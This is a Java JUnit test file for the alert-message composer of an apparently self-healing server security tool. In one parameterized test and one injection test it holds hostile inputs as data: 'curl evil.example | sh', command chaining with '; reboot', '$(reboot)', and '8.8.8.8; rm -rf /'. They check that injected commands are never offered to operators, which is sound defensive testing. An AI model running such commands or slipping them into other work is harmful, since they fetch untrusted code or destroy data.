package io.selfheal.notifier.message;

import static org.assertj.core.api.Assertions.assertThat;

import io.selfheal.notifier.Alerts;
import io.selfheal.notifier.SteppedTime;
import io.selfheal.notifier.TestConfig;
import io.selfheal.notifier.incident.IncidentBook;
import io.selfheal.notifier.incident.IncidentView;
import io.selfheal.schemas.alert.Alert;
import io.selfheal.schemas.assess.Evidence;
import io.selfheal.schemas.assess.Signal;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ComposerTest {
    private final IncidentBook book =
            new IncidentBook(TestConfig.of(Map.of()).session(), new SteppedTime("2026-11-21T10:00:00Z"));

    @Test
    void saysWhatWhomWhereWhyWhatWasDoneAndHowToUndoIt() {
        String text = text(book.add(Alerts.blocked("ssh", "203.0.113.7")));

        assertThat(text).isEqualTo("""
                [CRITICAL] Attacker blocked
                About: 203.0.113.7 (score 92, 65 % sure)
                Where: web-1
                Done: blocked until 2026-11-21T14:00:00Z (simulated)
                When: 2026-11-21 10:00:00 UTC
                Seen: +30 ssh-brute-force: 5 failures within an hour
                virustotal: +14 7 of 94 engines call it malicious
                User: root
                asn: AS64500
                Undo: selfheal unblock 203.0.113.7""");
    }

    @Test
    void aNodesDigestIsOneMessageThatReadsAsOne() {
        Alert digest = new Alert(
                "digest",
                Alerts.TIME,
                Alert.Severity.LOW,
                Alert.DAILY_DIGEST,
                "daily-digest/web-1/1",
                "Daily digest of a node",
                "2 things wait for you; since 2026-11-20T07:03:00Z",
                "web-1",
                "web-1",
                null,
                0,
                List.of(),
                Map.of(
                        "alerts", "1× high_cpu_usage",
                        "backups", "site made 5 h ago",
                        "blocks", "12× done, 1× refused",
                        "firmware", "nothing to be done",
                        "other checks", "malware-signatures nothing to be done",
                        "packages", "3 found, 2 urgent, the first: openssl 3.0 → 3.1",
                        "restarts", "nothing to be done",
                        "services", "1× nginx.service done"),
                "responder-agent");

        assertThat(text(book.add(digest))).isEqualTo("""
                [LOW] Daily digest of a node
                About: web-1
                Where: web-1
                2 things wait for you; since 2026-11-20T07:03:00Z
                When: 2026-11-21 10:00:00 UTC
                alerts: 1× high_cpu_usage
                backups: site made 5 h ago
                blocks: 12× done, 1× refused
                firmware: nothing to be done
                other checks: malware-signatures nothing to be done
                packages: 3 found, 2 urgent, the first: openssl 3.0 → 3.1
                restarts: nothing to be done
                services: 1× nginx.service done""");
    }

    @Test
    void threatIntelligenceIsQuotedWithItsCountsAndItsPage() {
        Alert plain = Alerts.blocked("ssh", "203.0.113.7");
        String said = "7 of 94 engines call it malicious; https://www.virustotal.com/gui/ip-address/203.0.113.7";
        Signal signal = new Signal(
                "virustotal",
                14,
                "threat intelligence calls it malicious",
                null,
                "1",
                List.of(new Evidence("virustotal", plain.time(), "", said)));

        assertThat(text(book.add(with(signal, plain, plain.groupingKey()))))
                .contains("virustotal: +14 threat intelligence calls it malicious: " + said + "\n");
    }

    @Test
    void whoWasAskedAndWhoWasNotIsSaid() {
        Signal clean = new Signal(
                "consulted:zscaler",
                0,
                "threat intelligence does not call it malicious",
                null,
                "1",
                List.of(new Evidence("zscaler", Instant.EPOCH, "", "Zscaler category: NEWS")));
        Alert plain = Alerts.blocked("ssh", "8.8.8.8");
        Alert asked = with(clean, plain, "other");

        assertThat(text(book.add(plain))).contains("\nNot consulted so far: zscaler\n");
        assertThat(text(book.add(asked)))
                .contains("zscaler: +0 threat intelligence does not call it malicious: Zscaler category: NEWS\n")
                .contains("Not consulted so far: virustotal\n")
                .doesNotContain("consulted:zscaler");
    }

    /** The same alert in another group, with the first of its signals and one more. */
    private static Alert with(Signal more, Alert plain, String groupingKey) {
        return new Alert(
                plain.id(),
                plain.time(),
                plain.severity(),
                plain.kind(),
                groupingKey,
                plain.title(),
                plain.description(),
                plain.subject(),
                plain.host(),
                plain.userName(),
                plain.score(),
                List.of(plain.signals().getFirst(), more),
                plain.labels(),
                plain.sourceModule());
    }

    @Test
    void whatIsProposedStandsAsALineToCopyAndAsACommand() {
        String isolate = "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"";
        Alert alert = labelled(Alerts.blocked("ssh", "203.0.113.7"), Map.of("order_isolate", isolate));

        Letter letter = Composer.compose(book.add(alert));

        assertThat(letter.write(4096, piece -> "?"))
                .endsWith("To approve: " + isolate + "\nUndo: selfheal unblock 203.0.113.7");
        assertThat(letter.commands())
                .containsExactly(
                        new Letter.Command("node web-1 isolate 60", isolate),
                        new Letter.Command("undo", "selfheal unblock 203.0.113.7"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl evil.example | sh",
                "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"; reboot",
                "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"\n",
                "selfheal order node $(reboot) isolate 60 --reason \"proposed by SelfHeal\"",
                "selfheal order node web-1 lock-account -x --reason \"proposed by SelfHeal\"",
                "selfheal unblock --all"
            })
    void aLineOfSomebodyElseIsNeverOfferedToBeCopied(String evil) {
        Alert alert = labelled(Alerts.blocked("ssh", "203.0.113.7"), Map.of("order_isolate", evil));

        Letter letter = Composer.compose(book.add(alert));

        assertThat(letter.commands()).containsExactly(new Letter.Command("undo", "selfheal unblock 203.0.113.7"));
        assertThat(letter.write(4096, piece -> "?"))
                .doesNotContain("To approve")
                .contains("?: ?");
    }

    private static Alert labelled(Alert plain, Map<String, String> labels) {
        return new Alert(
                plain.id(),
                plain.time(),
                plain.severity(),
                plain.kind(),
                plain.groupingKey(),
                plain.title(),
                plain.description(),
                plain.subject(),
                plain.host(),
                plain.userName(),
                plain.score(),
                plain.signals(),
                labels,
                plain.sourceModule());
    }

    @Test
    void countsWhatCameAfterTheFirst() {
        IncidentView view = null;
        for (int i = 1; i <= 12; i++) {
            view = book.add(Alerts.blocked("ssh", "203.0.113." + i));
        }

        assertThat(view).isNotNull();
        assertThat(text(view))
                .contains("203.0.113.8 and 4 more")
                .contains("When: 12 alerts from 2026-11-21 10:00:00 UTC to")
                .endsWith("Undo: selfheal unblock ADDRESS");
    }

    @Test
    void theUndoCommandNeverCarriesAnythingButAnAddress() {
        Alert hostile = Alerts.hostile("8.8.8.8; rm -rf /");

        assertThat(text(book.add(hostile))).endsWith("Undo: selfheal unblock ADDRESS");
    }

    @Test
    void everyTextFitsAndKeepsItsEndWhateverIsInIt() {
        for (String evil : Alerts.HOSTILE) {
            String text = Composer.compose(book.add(Alerts.hostile(evil))).write(600, piece -> piece);

            assertThat(text).hasSizeLessThanOrEqualTo(600).endsWith("Undo: selfheal unblock ADDRESS");
            assertThat(text.lines().count()).isLessThan(20);
            assertThat(text.codePoints().filter(c -> c != '\n' && Character.getType(c) == Character.CONTROL))
                    .isEmpty();
        }
    }

    private static String text(IncidentView view) {
        return Composer.compose(view).write(4096, piece -> piece);
    }
}
